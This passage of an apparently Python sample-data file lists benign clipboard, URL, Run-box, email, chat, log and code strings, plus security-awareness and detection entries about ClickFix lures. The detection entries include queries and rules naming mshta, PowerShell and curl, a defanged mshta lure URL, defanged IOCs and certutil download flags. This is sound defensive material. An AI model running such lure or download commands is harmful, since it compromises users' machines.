        "https://developer.mozilla.org/en-US/docs/Web/API/Navigator/clipboard",
        "await navigator.clipboard.readText()",
    ),
    ("https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie", "document.cookie"),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/URLSearchParams",
        "new URL(location.href).searchParams.get('utm_campaign')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/IndexedDB_API",
        "indexedDB.databases().then(console.log)",
    ),
    (
        SO + "1248081/how-to-get-the-browser-viewport-dimensions",
        "getComputedStyle(document.querySelector('.site-header')).height",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/fonts",
        "[...document.fonts].map(f => `${f.family} ${f.weight} ${f.status}`)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Notification/requestPermission",
        "navigator.permissions.query({name: 'geolocation'}).then(s => console.log(s.state))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Element/requestFullscreen",
        "document.querySelector('video').requestFullscreen()",
    ),
    (
        SO + "14226803/wait-5-seconds-before-executing-next-line",
        "let n = 0; const t = setInterval(() => { const b = document.querySelector('button.show-more'); if (!b || ++n > 20) clearInterval(t); else b.click() }, 700)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Response/json",
        "fetch('https://api.github.com/rate_limit').then(r => r.json()).then(d => console.log(d.rate))",
    ),
)

URLS = (
    (None, "https://github.com/acme-labs/inventory-service/pull/482/files"),
    (
        None,
        "https://docs.google.com/spreadsheets/d/1Xk9aQ2mZr7LpT0vWbC3nE5uY8hJ4sD6fG1oK2iP3qR0/edit#gid=0",
    ),
    (None, "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s"),
    (None, "https://en.wikipedia.org/wiki/Byzantine_fault"),
    (
        None,
        "https://teams.microsoft.com/l/meetup-join/19%3ameeting_NjQ4ZGE3%40thread.v2/0?context=%7b%22Tid%22%3a%2272f988bf%22%7d",
    ),
    (None, "https://zoom.us/j/95512345678?pwd=bXlQd2RzZ0pXc1JxUTBSUT09"),
    (None, "https://meet.google.com/abc-defg-hij"),
    (None, "https://www.amazon.de/dp/B0CHX3QBCH?ref=ppx_yo2ov_dt_b_fed_asin_title"),
    (None, "https://www.google.com/maps/place/Rijksmuseum/@52.3599976,4.8852188,17z"),
    (
        None,
        "https://portal.azure.com/#@contoso.onmicrosoft.com/resource/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-prod/overview",
    ),
    (None, "https://console.aws.amazon.com/cloudwatch/home?region=eu-central-1#logsV2:log-groups"),
    (None, "https://www.figma.com/design/Tq7x2Lm/Checkout-Redesign?node-id=12-345"),
    (None, "https://jira.example.org/browse/OPS-2281"),
    (None, "https://status.openai.com/"),
    (None, "https://docs.python.org/3/library/asyncio-task.html#asyncio.TaskGroup"),
    (None, "https://news.ycombinator.com/item?id=42311157"),
    (
        None,
        "https://www.reddit.com/r/sysadmin/comments/1h8x2k/patch_tuesday_december_2026_megathread/",
    ),
    (None, "https://calendly.com/m-okafor/30min"),
    (None, "https://drive.google.com/file/d/1aBcD3eFgH4iJkL5mNoP6qRsT7uVwX8yZ/view?usp=sharing"),
    (
        None,
        "https://www.booking.com/hotel/pt/lisbon-riverside.html?checkin=2027-01-14&checkout=2027-01-17",
    ),
    (None, "https://outlook.office.com/mail/inbox/id/AAQkAGE1ZTQ2"),
    (
        None,
        "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=00000000-0000-0000-0000-000000000000&response_type=code&redirect_uri=https%3A%2F%2Fapp.contoso.com%2Fsignin&scope=openid%20profile",
    ),
    (
        None,
        "https://accounts.google.com/o/oauth2/v2/auth?client_id=1234.apps.googleusercontent.com&redirect_uri=https://app.example.org/callback&response_type=code&scope=email",
    ),
    (None, "https://app.example.org/callback?code=4/0AeanS0b&state=af0ifjsldkj"),
    (None, "https://www.linkedin.com/in/jane-doe-4a1b2c/"),
    (None, "http://192.168.1.1/"),
    (None, "http://localhost:3000/dashboard?tab=billing"),
    (None, "http://127.0.0.1:8888/lab?token=8f1c2d3e4a5b6c7d"),
    (None, "https://pypi.org/project/requests/2.32.3/"),
    (None, "https://crates.io/crates/serde"),
    (None, "https://www.npmjs.com/package/zod"),
    (None, "ftp://ftp.gnu.org/gnu/bash/"),
    (None, "https://bit.ly/3xYzAbC"),
    (None, "mailto:it-helpdesk@contoso.com?subject=Laptop%20replacement"),
    (None, "https://archive.org/details/computerchronicles"),
)

RUNBOX = (
    "\\\\fs-muc-02\\marketing\\Brand Assets 2027",
    "%USERPROFILE%\\AppData\\Local\\Packages\\Microsoft.WindowsTerminal_8wekyb3d8bbwe\\LocalState",
    "mstsc /v:10.20.30.41:3390 /f",
    "https://confluence.corp.local/display/OPS/On-call+rota",
    'excel "\\\\fs01\\finance\\Budget 2027 v3.xlsx"',
    "control /name Microsoft.Personalization /page pageWallpaper",
    "explorer.exe /select,C:\\Users\\ana\\Downloads\\Quarterly-report.pdf",
    "mmc compmgmt.msc /computer=\\\\WS-0188",
    "C:\\Tools\\SysinternalsSuite\\procexp64.exe",
    "msedge --inprivate https://intranet.corp.local/timesheets",
    "cmd /k cd /d D:\\repos\\billing",
    "https://myapps.microsoft.com",
    "\\\\scan-01.corp.local\\scans\\%USERNAME%",
    "control appwiz.cpl,,2",
    "inetcpl.cpl ,4",
    'notepad "%USERPROFILE%\\Documents\\meeting-notes-2026-12-07.txt"',
    'winword "\\\\fs01\\hr\\templates\\Offer letter DE.dotx"',
    "https://status.corp.local/",
    "\\\\10.0.5.20\\public\\drivers\\Canon",
    "C:\\Program Files\\KeePassXC\\KeePassXC.exe",
    "wf.msc /s",
    "ms-settings:apps-volume",
    "powershell_ise D:\\Scripts\\Cleanup-Profiles.ps1",
    "code D:\\repos\\billing",
    "\\\\dc01\\NETLOGON",
    "\\\\dc01\\SYSVOL\\corp.local\\Policies",
    "mailto:servicedesk@corp.local",
    "firefox -P work -no-remote",
    'msedge --profile-directory="Profile 2"',
    "https://grafana.corp.local/d/node-exporter?var-host=db-2",
    "control.exe srchadmin.dll",
)

EXPLORER = (
    "%USERPROFILE%\\OneDrive - Contoso\\Desktop\\Receipts 2026",
    "%LOCALAPPDATA%\\Microsoft\\Teams",
    "\\\\fileserver01\\projects\\2026\\Q4",
    "D:\\Photos\\2026\\Summer",
    "\\\\fs-ham-01\\vertrieb\\Angebote\\2027",
    "\\\\nas01\\backup\\laptops",
    "C:\\Windows\\System32\\drivers\\etc",
    "ftp://ftp.corp.local/outgoing/scans/",
    "OneDrive - Contoso\\Shared Documents\\Finance",
    "C:\\inetpub\\wwwroot",
    "%WINDIR%\\Logs\\DISM",
    "This PC",
    "Control Panel\\System and Security\\File History",
    "C:\\dev\\src\\web-frontend",
    "\\\\?\\C:\\very\\long\\path\\archive",
    "shell:::{645FF040-5081-101B-9F08-00AA002F954E}",
)

# Security writing that quotes lures (awareness notes, reports, detection queries): defanged or
# described, never a working command from a stranger's page
SECURITY = (
    (
        "https://intranet.corp.local/it/security-awareness/clickfix",
        "Heads-up from IT Security: fake 'Verify you are human' pages are asking people to press Win+R and paste a command. No real CAPTCHA ever asks you to do that. If you already pasted something, unplug from the network and call the service desk on extension 4400.",
    ),
    (
        "https://www.cisa.gov/news-events/cybersecurity-advisories",
        "Threat actors use social engineering techniques known as ClickFix, in which a victim is convinced to copy, paste, and run a malicious PowerShell command via the Windows Run dialog (T1204.004).",
    ),
    (
        "https://attack.mitre.org/techniques/T1204/004/",
        "Adversaries may rely upon a user copying and pasting code in order to gain execution. Users may be subjected to social engineering to get them to copy and paste code directly into a Command and Scripting Interpreter.",
    ),
    (
        "https://learn.microsoft.com/en-us/defender-xdr/advanced-hunting-overview",
        'DeviceRegistryEvents\n| where RegistryKey has @"Explorer\\RunMRU"\n| where RegistryValueData has_any ("powershell", "mshta", "curl", "msiexec")\n| project Timestamp, DeviceName, RegistryValueData',
    ),
    (
        "https://github.com/SigmaHQ/sigma/tree/master/rules/windows",
        "title: Suspicious RunMRU Entry\nlogsource:\n  product: windows\n  category: registry_set\ndetection:\n  selection:\n    TargetObject|contains: '\\Explorer\\RunMRU'\n    Details|contains:\n      - 'mshta'\n      - 'powershell'\n  condition: selection\nlevel: high",
    ),
    (
        "https://docs.splunk.com/Documentation/Splunk/latest/SearchReference/Rex",
        'index=wineventlog EventCode=4688 (CommandLine="*mshta*http*" OR CommandLine="*-enc*") | stats count by host, CommandLine',
    ),
    (
        "https://blog.security-vendor.example.org/2026/11/clickfix-turns-two",
        "In the latest wave the page copies a command like `mshta hxxps://<redacted>/verify` to the clipboard and displays three steps: Win+R, Ctrl+V, Enter. The trailing comment ('I am not a robot - reCAPTCHA ID') hides the command in the small Run box.",
    ),
    (
        "https://www.elastic.co/guide/en/security/current/es-ql.html",
        'FROM logs-endpoint.events.process-*\n| WHERE process.parent.name == "explorer.exe" AND process.name IN ("powershell.exe", "mshta.exe")\n| STATS c = COUNT(*) BY process.command_line\n| SORT c DESC',
    ),
    (
        "https://intranet.corp.local/it/news/2026-12-01",
        "Reminder: IT will never ask you to paste anything into the Run box, PowerShell or Terminal. Report suspicious pages with the 'Report phishing' button.",
    ),
    (
        "https://www.huntress.com/blog",
        "The FileFix variant instructs the user to paste a path into the File Explorer address bar. The visible part looks like C:\\company\\internal-secure\\filedrive\\HRPolicy.docx, but the real command sits before a '#' padded with spaces.",
    ),
    (
        "https://unit42.paloaltonetworks.com/",
        "IOC table (defanged):\nhxxps://verify-check[.]example/cf\nhxxp://198.51.100[.]7/a.hta\nSHA256: 9f2c...e1a0 (loader)\nThese are shared for detection only; do not visit.",
    ),
    (
        "https://redcanary.com/threat-detection-report/",
        "Detection opportunity: PowerShell spawned by explorer.exe with a command line that contains 'iex' and 'irm' together and a URL, shortly after a browser process wrote to the clipboard.",
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/attack-surface-reduction-rules-reference",
        "Block execution of potentially obfuscated scripts (GUID 5beb7efe-fd9a-4556-801d-275e5ffc04cc) and Block JavaScript or VBScript from launching downloaded executable content (d3e037e1-3eb8-44c8-a917-57927947596d).",
    ),
    (
        "https://www.ncsc.gov.uk/guidance/phishing",
        "Tech-support scams show a full-screen warning that your computer is locked and give a phone number. Microsoft does not display phone numbers in error messages. Close the browser with Alt+F4 or Task Manager.",
    ),
    (
        "https://support.microsoft.com/en-us/windows/protect-yourself-from-tech-support-scams",
        "Microsoft's error and warning messages never include phone numbers. Be wary of unsolicited calls or pop-ups that ask you to call a number.",
    ),
    (
        "https://github.com/acme-sec/detections/blob/main/yara/clickfix_page.yar",
        'rule ClickFix_Page_Clipboard {\n  strings:\n    $a = "navigator.clipboard.writeText" ascii\n    $b = "Win + R" ascii nocase\n    $c = "I am not a robot" ascii nocase\n  condition:\n    2 of them\n}',
    ),
    (
        "https://intranet.corp.local/soc/runbooks/clickfix",
        "Runbook: user pasted command into Run dialog\n1. Isolate host in Defender\n2. Pull RunMRU: reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\n3. Check child processes of explorer.exe in last 2h\n4. Reset user's password and revoke sessions",
    ),
    (
        "https://www.bleepingcomputer.com/news/security/",
        "Researchers observed ConsentFix, a variant where victims are told to copy the localhost URL from the address bar after signing in, handing over an OAuth authorization code.",
    ),
    (
        "https://pushsecurity.com/blog/",
        "The attacker never sees a password: the victim signs in on the real Microsoft page and then pastes the redirect URL — which contains the authorization code — back into the phishing site.",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity/conditional-access/concept-authentication-flows",
        "Block device code flow with Conditional Access unless it is explicitly needed; attackers abuse it by sending victims a code and the microsoft.com/devicelogin page.",
    ),
    (
        "https://www.sans.org/blog/",
        "Quick triage tip: `Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU'` lists what was typed into Win+R on that profile.",
    ),
    (
        "https://intranet.corp.local/it/security-awareness/discord",
        "Parents' note: scam Discord servers tell kids to open the browser console (F12) and paste code to 'verify'. That code steals the account token. Never paste code into DevTools.",
    ),
    (
        "https://www.proofpoint.com/us/blog/threat-insight",
        "The lure impersonates a Word document that fails to render and offers a 'How to fix' button, which copies a PowerShell one-liner to the clipboard and instructs the user to open a terminal.",
    ),
    (
        "https://learn.microsoft.com/en-us/kusto/query/",
        'DeviceProcessEvents\n| where InitiatingProcessFileName =~ "explorer.exe"\n| where FileName in~ ("mshta.exe","msiexec.exe","rundll32.exe")\n| where ProcessCommandLine matches regex @"https?://"\n| summarize count() by DeviceName, ProcessCommandLine',
    ),
    (
        "https://github.com/acme-sec/detections/blob/main/README.md",
        "This repository contains detection rules for paste-and-run lures (ClickFix, FileFix, fake CAPTCHA). Test strings are defanged (hxxp, [.]) and must not be executed.",
    ),
    (
        "https://www.reddit.com/r/sysadmin/comments/1h2k9q/",
        "PSA: saw three users this week hit by fake Cloudflare checks. The copied command used finger.exe to pull the next stage. We blocked finger.exe outbound at the firewall and via AppLocker.",
    ),
    (
        "https://intranet.corp.local/soc/weekly/2026-49",
        "Weekly SOC summary: 14 blocked ClickFix attempts (11 mshta, 3 PowerShell), 2 callback-phishing emails about fake Norton renewals, 0 confirmed compromises.",
    ),
    (
        "https://www.malwarebytes.com/blog",
        "Callback phishing emails claim you were charged for a subscription (Geek Squad, Norton, McAfee) and give a phone number to cancel. The 'agent' then asks you to install remote-access software.",
    ),
    (
        "https://attack.mitre.org/techniques/T1218/005/",
        "Adversaries may abuse mshta.exe to proxy execution of malicious .hta files and Javascript or VBScript through a trusted Windows utility.",
    ),
    (
        "https://lolbas-project.github.io/lolbas/Binaries/Certutil/",
        "certutil.exe is a command-line program installed as part of Certificate Services. It can be used to download files (-urlcache -split -f) and to decode base64 (-decode).",
    ),
    (
        "https://gtfobins.github.io/",
        "GTFOBins is a curated list of Unix binaries that can be used to bypass local security restrictions in misconfigured systems.",
    ),
    (
        "https://docs.microsoft.com/en-us/windows/security/application-security/application-control/",
        "Consider blocking mshta.exe, wscript.exe and cscript.exe for standard users with AppLocker or WDAC; few business apps need them.",
    ),
)

# Genuine support and IT mails with phone numbers, in many languages
SUPPORT = (
    (
        "https://outlook.office.com/mail/",
        "Hi all, the VPN gateway will be down for maintenance Saturday 07:00–09:00 CET. If you need help afterwards, call the service desk on +44 20 7946 0321 or raise a ticket in the portal.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Hallo zusammen, ab Montag gilt die neue Druckerzuordnung. Bei Problemen erreicht ihr den IT-Support unter 030 901820-44 (Mo–Fr 8–17 Uhr).",
    ),
    (
        "https://outlook.office.com/mail/",
        "Bonjour, votre nouvel ordinateur portable est prêt au 3e étage. Pour prendre rendez-vous, appelez le support informatique au 01 70 36 12 48.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Hola equipo: el martes migramos el correo a Microsoft 365. Si tenéis dudas, llamad a soporte al 910 123 456, extensión 220.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Ciao, ricordo che il badge va rinnovato entro venerdì. Per assistenza contattate la reception al 02 8736 4410.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Olá a todos, o sistema de ponto estará indisponível hoje das 18h às 20h. Dúvidas: ramal 3021 ou (11) 3090-2211.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Beste collega's, de nieuwe telefooncentrale is live. Storingen meld je bij de servicedesk: 020 794 6211.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Dzień dobry, w piątek od 16:00 aktualizujemy system kadrowy. W razie problemów prosimy o kontakt z helpdeskiem: 22 825 31 10.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Merhaba, yeni dizüstü bilgisayarınız hazır. Teslim almak için BT destek hattını arayın: 0212 318 44 90.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Коллеги, в субботу с 10:00 до 12:00 будут работы на почтовом сервере. Вопросы — в техподдержку по телефону +7 495 739-22-10, доб. 114.",
    ),
    (
        "https://outlook.office.com/mail/",
        "お疲れ様です。来週月曜日にPCの入れ替えを行います。ご不明点は情報システム部（内線 2241 / 03-6271-8800）までご連絡ください。",
    ),
    (
        "https://outlook.office.com/mail/",
        "各位同事：本周六凌晨系统升级，期间邮箱无法使用。如有问题请联系IT服务台：010-6552 8831。",
    ),
    (
        "https://outlook.office.com/mail/",
        "زملائي الأعزاء، سيتم تحديث نظام البريد يوم الجمعة. للاستفسار يرجى الاتصال بالدعم الفني على الرقم 04 331 8870.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Hej! Nya lösenordsregler gäller från 1 januari. Frågor? Ring IT-supporten på 08-522 111 40.",
    ),
    (
        "https://outlook.office.com/mail/",
        "안녕하세요. 다음 주 화요일에 그룹웨어 점검이 있습니다. 문의는 IT 헬프데스크 02-3456-7810으로 연락 주세요.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Dobrý den, tiskárna ve 2. patře je opravena. V případě potíží volejte helpdesk 224 931 550.",
    ),
    (
        "https://www.dhl.de/en/privatkunden/kundenservice.html",
        "Customer service: Mon–Fri 8 am to 6 pm. Phone: +49 228 4333 112. Please have your tracking number ready.",
    ),
    (
        "https://support.apple.com/en-us/contact",
        "To speak with an Apple Support Advisor in the US, call 1-800-275-2273. Have your serial number ready.",
    ),
    (
        "https://www.bank.example.org/contact",
        "Lost or stolen card? Call us 24/7 on 0345 300 0000 (from abroad +44 113 242 1984). We will never ask for your PIN or to move money to a 'safe account'.",
    ),
    (
        "https://www.hp.com/us-en/contact-hp/contact.html",
        "HP Customer Support: visit support.hp.com or call 1-800-474-6836. Warranty check requires your product serial number.",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Hi Sam, thanks for calling earlier. As discussed, your appointment is on Thursday at 10:30. If you need to reschedule please call the clinic on (415) 476-1000.",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Your order #114-2231907 has shipped and will arrive Tuesday. Questions about delivery? Call our customer care team at 1-888-280-4331, 8am–8pm ET.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Reminder: the fire alarm test is tomorrow at 11:00. Emergencies: dial 112. Facilities desk: ext. 5500.",
    ),
    (
        "https://www.telekom.de/kontakt",
        "Störung melden: Rufen Sie uns kostenlos an unter 0800 330 1000. Halten Sie Ihre Kundennummer bereit.",
    ),
    (
        "https://www.orange.fr/portail/assistance",
        "Service client Orange : 3900 (service gratuit + prix d'un appel). Du lundi au samedi de 8h à 20h.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Hi team — new starter Maya joins Monday. Her laptop is imaged; desk phone is 0161 496 0732. Please add her to the on-call rota from February.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Ticket INC0048812 resolved: your mailbox quota was increased to 100 GB. If the issue returns, reply to this email or call 555-0100 ext 3.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Dear customer, your appointment with our engineer is confirmed for 12 Dec between 8am and 12pm. To change it call 0330 123 4455.",
    ),
)

OAUTH_DOCS = (
    (
        "https://www.rfc-editor.org/rfc/rfc6749#section-4.1",
        "GET /authorize?response_type=code&client_id=s6BhdRkqt3&state=xyz&redirect_uri=https%3A%2F%2Fclient%2Eexample%2Ecom%2Fcb HTTP/1.1\nHost: server.example.com",
    ),
    (
        "https://www.rfc-editor.org/rfc/rfc8252#section-7.3",
        "Native apps that are able to open a port on the loopback network interface without needing special permissions can use the loopback interface to receive the OAuth redirect, for example http://127.0.0.1:51004/oauth2redirect/example-provider",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "POST /{tenant}/oauth2/v2.0/token HTTP/1.1\nHost: login.microsoftonline.com\nContent-Type: application/x-www-form-urlencoded\n\nclient_id=11111111-1111-1111-1111-111111111111&scope=offline_access%20user.read&code=OAAABAAAAiL9Kn2Z27UubvWFPbm0gLWQJVzCTE9UkP3pSx1aXxUjq3n8b2JRLk4OxVXr...&redirect_uri=http%3A%2F%2Flocalhost%2Fmyapp%2F&grant_type=authorization_code&code_verifier=ThisIsntRandomButItNeedsToBe43CharactersLong",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "The device code flow: the app shows a user code and the URL https://microsoft.com/devicelogin. The user signs in on another device. Only use it for input-constrained devices such as smart TVs and CLIs you started yourself.",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "Loopback IP address redirect: http://127.0.0.1:port or http://[::1]:port. Google recommends the PKCE extension for installed applications.",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps#device-flow",
        "The device flow allows you to authorize users for a headless app, such as a CLI tool. Your app displays a user code and asks the user to enter it at https://github.com/login/device.",
    ),
    (
        "https://oauth.net/2/pkce/",
        "code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256",
    ),
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/authorization-code-flow",
        "https://YOUR_DOMAIN/authorize?response_type=code&client_id=YOUR_CLIENT_ID&redirect_uri=https://YOUR_APP/callback&scope=openid%20profile&state=STATE",
    ),
    (
        "https://cli.github.com/manual/gh_auth_login",
        "$ gh auth login\n? Where do you use GitHub? GitHub.com\n? How would you like to authenticate GitHub CLI? Login with a web browser\n! First copy your one-time code: 4F2A-9C1D\nPress Enter to open github.com in your browser...",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
        "az login --tenant 72f988bf-86f1-41af-91ab-2d7cd011db47 --use-device-code\n# To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code shown",
    ),
    (
        "https://openid.net/specs/openid-connect-core-1_0.html#AuthResponse",
        "HTTP/1.1 302 Found\nLocation: https://client.example.org/cb?code=SplxlOBeZQQYbYS6WxSbIA&state=af0ifjsldkj",
    ),
    (
        "https://www.keycloak.org/docs/latest/server_admin/",
        "http://localhost:8080/realms/demo/protocol/openid-connect/auth?client_id=account-console&redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Frealms%2Fdemo%2Faccount&response_type=code&scope=openid",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8628#section-3.2",
        'HTTP/1.1 200 OK\nContent-Type: application/json\n\n{\n  "device_code": "GmRhmhcxhwAzkoEqiMEg_DnyEysNkuNhszIySk9eS",\n  "user_code": "WDJB-MJHT",\n  "verification_uri": "https://example.com/device",\n  "expires_in": 1800,\n  "interval": 5\n}',
    ),
    (
        "https://rclone.org/remote_setup/",
        'rclone authorize "onedrive"\n# then paste the result into the config prompt on the headless box:\n# {"access_token":"...","token_type":"Bearer","refresh_token":"..."}',
    ),
)

CHAT = (
    "can you review my PR when you get a sec? it's the one that fixes the flaky date test",
    "lunch at 12:30? the thai place or the new ramen spot",
    "deploy is green ✅ rolling to prod at 3",
    "I'm OOO tomorrow, ping Jonas for anything urgent",
    "did anyone change the staging db password? my migrations fail with auth error",
    "pls run `npm ci` again, the lockfile changed on main",
    "FYI the build cache is busted, first CI run will take ~20 min",
    "ok so the bug is: when the cart has 0 items we still call the tax API",
    "congrats on the launch 🎉🎉",
    "meeting moved to 4pm, same link",
    "try restarting the docker daemon, that fixed it for me last week",
    "what's the wifi password for the guest network again?",
    "Standup notes: done – invoice export; doing – retry queue; blocked – waiting on API keys from finance",
    "the on-call phone is with me this week, call +1 415 555 0134 if pager fails",
    "ugh outlook crashed again, anyone else?",
    "use `git pull --rebase` instead of merge, keeps history clean",
    "I pushed a hotfix to release/2.4, needs a second approval",
    "Kann jemand kurz auf den Alert in Grafana schauen? CPU auf db-2 bei 95%",
    "Quelqu'un a la clé du local serveur ? Je dois remplacer un disque.",
    "¿Alguien sabe si el viernes hay reunión general?",
    "la demo di domani è confermata alle 11",
    "Sprint review slides are in the shared drive under /Sprint 48",
    "you need to be on VPN to reach grafana.internal",
    "heads up: certificate for api.example.org expires in 9 days, renewal PR is up",
    "I think the regex is wrong, it should be ^v\\d+\\.\\d+\\.\\d+$",
    "reminder: timesheets due by Friday 5pm",
    "LGTM, just rename `tmp2` to something meaningful",
    "has anyone seen this error? `ECONNRESET` when uploading >100MB",
    "happy friday everyone! 🍕 in the kitchen",
    "the printer on floor 3 is jammed again, I've called facilities",
    "Note to self: rotate the S3 access key before Jan 15",
    "What's our policy on using personal phones for MFA?",
    "just got a weird email saying my Norton renewed for $399 and to call a number. deleted it, pretty sure it's phishing",
    "a site just asked me to press Win+R and paste something to prove I'm human?? closing it",
    "thanks for the help with the laptop yesterday, all working now",
    "new hire onboarding checklist is pinned in #it-help",
    "the recording from today's all-hands is up on SharePoint",
    "rollback done, error rate back to normal. postmortem tomorrow 10am",
    "does anyone have a spare USB-C to HDMI adapter?",
    "can we bump the node version in CI to 22? 18 is EOL",
    "Bitte nicht vergessen: Weihnachtsfeier am 18.12. ab 18 Uhr 🎄",
    "spent 2 hours on this and it was a missing trailing slash in the proxy_pass 🤦",
    "merge freeze starts Wednesday EOD",
    "sure, send me the invite",
    "kubectl says forbidden, I probably need the dev-admin role",
)

LOGS = (
    "2026-12-07T09:14:22.481Z INFO  api.request method=GET path=/v1/orders status=200 duration_ms=42 user=8812",
    "Dec  7 09:15:01 web01 CRON[22871]: (root) CMD (/usr/local/bin/backup.sh > /dev/null 2>&1)",
    "Dec  7 09:16:44 bastion sshd[1123]: Accepted publickey for ops from 10.0.8.21 port 51234 ssh2: ED25519 SHA256:Qx9...",
    "Dec  7 09:17:02 bastion sshd[1190]: Failed password for invalid user admin from 203.0.113.77 port 40022 ssh2",
    '[2026-12-07 09:18:13,552] ERROR in app: Exception on /checkout [POST]\nTraceback (most recent call last):\n  File "/app/shop/views.py", line 211, in checkout\n    total = cart.total()\nZeroDivisionError: division by zero',
    '10.0.3.14 - - [07/Dec/2026:09:19:55 +0000] "GET /static/app.3f9a.js HTTP/1.1" 200 184233 "https://shop.example.org/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
    'Exception in thread "main" java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.acme.users.UserService.normalize(UserService.java:88)\n\tat com.acme.users.UserService.create(UserService.java:41)',
    'npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! Found: react@19.0.0\nnpm ERR! Could not resolve dependency: peer react@"^18.0.0" from some-ui-lib@3.2.1',
    "error[E0382]: borrow of moved value: `config`\n  --> src/main.rs:24:20\n   |\n18 |     let app = App::new(config);\n   |                        ------ value moved here",
    "Warning: Permanently added 'github.com' (ED25519) to the list of known hosts.\ngit@github.com: Permission denied (publickey).\nfatal: Could not read from remote repository.",
    'E1207 09:21:40.112233       1 reflector.go:147] failed to list *v1.Pod: pods is forbidden: User "system:serviceaccount:ci:runner" cannot list resource "pods" in API group "" in the namespace "prod"',
    "Log Name: System\nSource: Microsoft-Windows-Kernel-Power\nEvent ID: 41\nLevel: Critical\nDescription: The system has rebooted without cleanly shutting down first.",
    "2026-12-07 09:23:05.001 UTC [4412] LOG:  checkpoint complete: wrote 1832 buffers (11.2%); 0 WAL file(s) added, 0 removed, 3 recycled",
    "panic: runtime error: index out of range [3] with length 3\n\ngoroutine 1 [running]:\nmain.parseArgs(...)\n\t/src/cmd/tool/main.go:57 +0x1d4",
    "  ● nginx.service - A high performance web server and a reverse proxy server\n     Loaded: loaded (/lib/systemd/system/nginx.service; enabled)\n     Active: failed (Result: exit-code) since Mon 2026-12-07 09:24:11 UTC",
    "fatal: unable to access 'https://gitlab.corp.local/platform/infra.git/': SSL certificate problem: unable to get local issuer certificate",
    "TypeError: Cannot read properties of undefined (reading 'map')\n    at ProductList (ProductList.tsx:31:22)\n    at renderWithHooks (react-dom.development.js:15486:18)",
    "PS C:\\> Get-Service wuauserv\n\nStatus   Name               DisplayName\n------   ----               -----------\nRunning  wuauserv           Windows Update",
    "WARN  [main] o.h.e.j.e.i.JdbcEnvironmentInitiator : HHH000342: Could not obtain connection to query metadata",
    '{"level":"error","ts":"2026-12-07T09:26:31Z","msg":"upstream timeout","upstream":"payments","latency_ms":30001,"trace_id":"4bf92f3577b34da6a3ce929d0e0e4736"}',
    "FAILED tests/test_billing.py::test_proration_leap_year - AssertionError: assert 2901 == 2900",
    "Ign:1 http://archive.ubuntu.com/ubuntu noble InRelease\nHit:2 http://security.ubuntu.com/ubuntu noble-security InRelease\nReading package lists... Done",
    "Step 7/12 : RUN pip install --no-cache-dir -r requirements.txt\n ---> Running in 3c1a2b9e8f70\nCollecting fastapi==0.115.6",
    "Windows IP Configuration\n\nEthernet adapter Ethernet:\n   IPv4 Address. . . . . . . . . . . : 192.168.10.54\n   Subnet Mask . . . . . . . . . . . : 255.255.255.0\n   Default Gateway . . . . . . . . . : 192.168.10.1",
    "MemoryError: Unable to allocate 11.2 GiB for an array with shape (40000, 37500) and data type float64",
)

CODE = (
    (
        "https://docs.python.org/3/library/pathlib.html",
        "from pathlib import Path\n\nfor p in Path('data').rglob('*.csv'):\n    print(p.stem, p.stat().st_size)",
    ),
    (
        "https://docs.python.org/3/library/subprocess.html",
        "import subprocess\n\nresult = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True, check=True)\nprint(result.stdout.strip())",
    ),
    (
        "https://requests.readthedocs.io/en/latest/user/quickstart/",
        "import requests\n\nr = requests.get('https://api.github.com/repos/psf/requests', timeout=10)\nr.raise_for_status()\nprint(r.json()['stargazers_count'])",
    ),
    (
        "https://docs.python.org/3/library/asyncio-task.html",
        "async def main():\n    async with asyncio.TaskGroup() as tg:\n        t1 = tg.create_task(fetch('a'))\n        t2 = tg.create_task(fetch('b'))\n    print(t1.result(), t2.result())",
    ),
    (
        "https://fastapi.tiangolo.com/tutorial/first-steps/",
